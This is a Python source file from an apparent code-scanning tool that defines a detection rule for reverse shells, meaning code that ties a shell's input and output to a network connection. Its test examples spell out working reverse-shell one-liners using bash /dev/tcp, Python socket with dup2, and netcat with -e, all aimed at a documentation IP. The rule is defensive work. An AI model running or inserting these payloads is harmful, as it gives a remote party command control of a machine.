"""A shell handed to a far machine."""

from collections.abc import Iterator

from hunkwise.code.model import Side, Unit
from hunkwise.signals.interface import Example, Sighting, Signal
from hunkwise.signals.seeing import code_lines, ends, mentions, short, span
from hunkwise.signals.tables.attack import REVERSE_SHELL, REVERSE_SHELL_STEMS
from hunkwise.signals.tables.languages import ANY

_SCRIPTS = frozenset({"shell", "powershell", "batch", "dockerfile", "workflow", "manifest", "json"})
_CONNECTS = frozenset({
    "socket.socket", "connect", "net.connect", "net.Socket", "net.Dial", "createConnection", "net.createConnection", "TcpStream.connect",
    "fsockopen", "Socket",
})  # fmt: skip
_DUPLICATES = frozenset({"os.dup2", "dup2", "pty.spawn", "pipe"})
_SHELLS = ("/bin/sh", "/bin/bash", "cmd.exe", "powershell.exe", "bash", "sh", "cmd", "powershell")


def _see(unit: Unit, side: Side) -> Iterator[Sighting]:
    if unit.language in _SCRIPTS:
        for number, text in code_lines(side):
            if (
                mentions(text, REVERSE_SHELL_STEMS)
                and (found := REVERSE_SHELL.search(text[:3000]))
                and not text.strip().startswith(("#", "echo"))
            ):
                yield Sighting((number,), {"call": short(found[0], 80)}, strength=0.9)
        return
    facts = side.facts
    for literal in facts.strings:
        if (
            mentions(literal.value, REVERSE_SHELL_STEMS)
            and (found := REVERSE_SHELL.search(literal.value[:3000]))
            and any(call.line <= literal.line <= call.end for call in facts.calls)
        ):
            yield Sighting(span(literal.line, literal.end), {"call": short(found[0], 80)}, strength=0.8)
    connects = [call for call in facts.calls if ends(call.path, _CONNECTS)]
    doubles = [call for call in facts.calls if ends(call.path, _DUPLICATES)]
    shells = [text for text in facts.strings if text.value in _SHELLS]
    if (
        connects
        and doubles
        and shells
        and any(call.name in ("dup2", "spawn") or "stdin" in call.path or "stdout" in call.path for call in doubles)
    ):
        yield Sighting(
            tuple(sorted({connects[0].line, doubles[0].line, shells[0].line})),
            {"call": f"{connects[0].path} with {doubles[0].path} to `{shells[0].value}`"},
        )


SIGNAL = Signal(
    id="reverse-shell",
    title="A shell handed to a far machine",
    kind="payload",
    category="malicious-code",
    severity="critical",
    languages=ANY,
    promise="Tells of command lines and code that tie a shell's input and output to a connection.",
    why="Whoever listens at the other end types commands on the machine that runs this.",
    quiet="Connections that carry data, and shells that run locally.",
    remedy="Don't merge. If it ran anywhere, treat the machine as taken.",
    cause="`{call}` ties a shell to a connection.",
    since="0.1",
    maturity="stable",
    cwe="CWE-506",
    tactic="T1059",
    everywhere=True,
    see=_see,
    fires=(
        Example("shell", "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n", path="a.sh", line=2),
        Example(
            "python",
            'import os, socket, subprocess\n\ndef go():\n    s = socket.socket()\n    s.connect(("192.0.2.7", 4444))\n'
            '    os.dup2(s.fileno(), 0)\n    subprocess.call(["/bin/sh", "-i"])\n',
            line=6,
        ),
        Example("python", 'import os\nos.system("nc 192.0.2.7 4444 -e /bin/sh")\n', line=2),
    ),
    stays_quiet=(
        Example(
            "python", 'import socket\n\ndef go():\n    s = socket.socket()\n    s.connect(("192.0.2.7", 80))\n    s.sendall(b"hello")\n'
        ),
        Example("python", 'import subprocess\n\ndef go():\n    subprocess.call(["/bin/sh", "-c", "ls"])\n'),
        Example("shell", "#!/bin/sh\n# bash -i >& /dev/tcp/192.0.2.7/4444 0>&1\nnc -z localhost 80\n", path="a.sh"),
    ),
)
